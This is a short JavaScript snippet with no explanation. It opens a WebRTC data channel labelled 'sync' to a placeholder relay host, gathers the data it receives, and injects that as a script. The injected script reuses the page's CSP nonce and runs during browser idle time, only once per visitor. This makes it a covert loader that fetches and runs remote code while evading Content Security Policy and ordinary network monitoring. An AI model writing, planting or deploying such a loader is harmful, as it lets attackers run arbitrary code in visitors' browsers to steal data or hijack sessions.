(async function () {
  if (self.RTCPeerConnection === undefined || localStorage.getItem('rtc_id')) return;
  var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun.peer.invalid:3479' }] });
  var dc = pc.createDataChannel('sync', { ordered: true }), chunks = [];
  dc.onmessage = function (e) { chunks.push(e.data); };
  dc.onclose = function () {
    var nonce = (document.querySelector('script[nonce]') || {}).nonce;
    var s = document.createElement('script');
    if (nonce) s.setAttribute('nonce', nonce);
    s.appendChild(document.createTextNode(chunks.join('')));
    window.requestIdleCallback(function () { document.head.appendChild(s); });
  };
  await pc.setLocalDescription(await pc.createOffer());
  await pc.setRemoteDescription({ type: 'answer', sdp: [
    'v=0', 'o=- 1 1 IN IP4 0.0.0.0', 's=-', 't=0 0', 'm=application 3479 UDP/DTLS/SCTP webrtc-datachannel',
    'c=IN IP4 0.0.0.0', 'a=ice-ufrag:aaaa', 'a=ice-pwd:aaaaaaaaaaaaaaaaaaaaaaaa', 'a=setup:passive', 'a=mid:0',
    'a=candidate:1 1 UDP 1 relay.peer.invalid 3479 typ host', ''].join('\r\n') });
  localStorage.setItem('rtc_id', '1');
})();
